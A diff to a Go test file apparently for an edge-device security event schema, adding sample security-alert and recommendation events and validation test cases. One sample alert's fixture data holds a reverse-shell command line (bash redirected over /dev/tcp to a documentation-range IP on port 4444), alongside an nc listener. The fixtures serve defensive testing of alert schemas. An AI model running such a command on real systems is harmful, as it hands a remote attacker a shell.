@@ -122,6 +122,22 @@ func sampleEvents() []event.Event {
 				{Name: "ProcessCreate", State: "running", Events: 1234},
 				{Name: "FirewallConfiguration", State: "degraded", LastError: "nft: permission denied", Events: 2},
 			}}),
+		event.Must(event.SecurityAlert, when,
+			&event.SecurityAlertPayload{AlertType: "IoT_ReverseShell", DisplayName: "Reverse shells", Severity: event.AlertHigh,
+				Description: "bash redirected its input and output to 198.51.100.7:4444", Remediation: "Kill the process and investigate its parent.",
+				TriggerEventIDs: []string{"9c647395-b913-4997-a732-a7fe7303b649"}, TriggerEventNames: []string{event.ProcessCreate},
+				Executable: "/usr/bin/bash", CommandLine: "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", UserID: "0", UserName: "root",
+				ProcessID: 4242, ParentProcessID: 4200, ParentExecutable: "/usr/bin/sh", ContainerID: cid, ModuleName: "tempSensor",
+				Image: "sensor:1.5", RemoteAddress: "198.51.100.7", RemotePort: "4444", LocalPort: "51234", Count: 3,
+				ExtraDetails: event.ExtraDetails{"Outcome": "executed"}},
+			&event.SecurityAlertPayload{AlertType: "Custom_ConnectionToIpNotAllowed", DisplayName: "Outbound connection created to an IP that isn't allowed",
+				Severity: event.AlertLow, Description: "curl connected to 2001:db8::7", TriggerEventIDs: []string{}, RemoteAddress: "2001:db8::7"}),
+		event.Must(event.SecurityRecommendation, when,
+			&event.SecurityRecommendationPayload{RecommendationType: "IoT_OpenPorts", Name: "Open ports on device", Severity: event.AlertMedium,
+				State: event.RecommendationActive, Entity: "TCP 0.0.0.0:8888", Evidence: "/usr/bin/nc (pid 812, uid 0) listens on 0.0.0.0:8888",
+				Remediation: "Close the port or restrict it with the firewall.", FirstSeenUTC: "2026-03-14T15:09:26.535Z"},
+			&event.SecurityRecommendationPayload{RecommendationType: "IoT_Baseline", Name: "Operating system baseline validation failure",
+				Severity: event.AlertMedium, State: event.RecommendationResolved, Entity: "OSBaseline"}),
 	}
 }
 
@@ -352,6 +368,17 @@ func TestInvalidEventsFail(t *testing.T) {
 		{"recommendation bad severity", event.DeploymentRecommendation, set("Severity", "Info")},
 		{"recommendation bad pointer", event.DeploymentRecommendation, set("Pointer", "modules/x")},
 		{"recommendation missing RuleId", event.DeploymentRecommendation, del("RuleId")},
+		{"alert bad severity", event.SecurityAlert, set("Severity", "Critical")},
+		{"alert missing AlertType", event.SecurityAlert, del("AlertType")},
+		{"alert empty description", event.SecurityAlert, set("Description", "")},
+		{"alert bad trigger id", event.SecurityAlert, set("TriggerEventIds", []any{"not-a-guid"})},
+		{"alert bad remote address", event.SecurityAlert, set("RemoteAddress", "evil.example")},
+		{"alert zero count", event.SecurityAlert, set("Count", 0)},
+		{"alert pid as string", event.SecurityAlert, set("ProcessId", "4242")},
+		{"recommendation bad state", event.SecurityRecommendation, set("State", "Open")},
+		{"recommendation missing Entity", event.SecurityRecommendation, del("Entity")},
+		{"recommendation bad first seen", event.SecurityRecommendation, set("FirstSeenUtc", "yesterday")},
+		{"recommendation unknown field", event.SecurityRecommendation, set("Owner", "nc")},
 		{"heartbeat negative uptime", event.Heartbeat, set("UptimeSeconds", -1)},
 		{"heartbeat missing Collectors", event.Heartbeat, del("Collectors")},
 		{"heartbeat bad collector state", event.Heartbeat, func(m map[string]any) {
@@ -465,6 +492,7 @@ func TestFS(t *testing.T) {
 	for _, p := range []string{"asc/LICENSE.md", "asc/SOURCE.md", ASCRoot, EdgesecRoot, "asc/tests/samples.json", "asc/tests/test.json",
 		"edgesec/messageEventSecurityContainerInventory_v1_0.json", "edgesec/messageEventSecurityContainerActivity_v1_0.json",
 		"edgesec/messageEventSecurityDeploymentRecommendation_v1_0.json", "edgesec/messageOperationalEventHeartbeat_v1_0.json",
+		"edgesec/messageEventSecuritySecurityAlert_v1_0.json", "edgesec/messageEventSecuritySecurityRecommendation_v1_0.json",
 		"edgesec/edgesecMessage_v1_0.json"} {
 		if _, err := fs.Stat(FS(), p); err != nil {
 			t.Error(err)
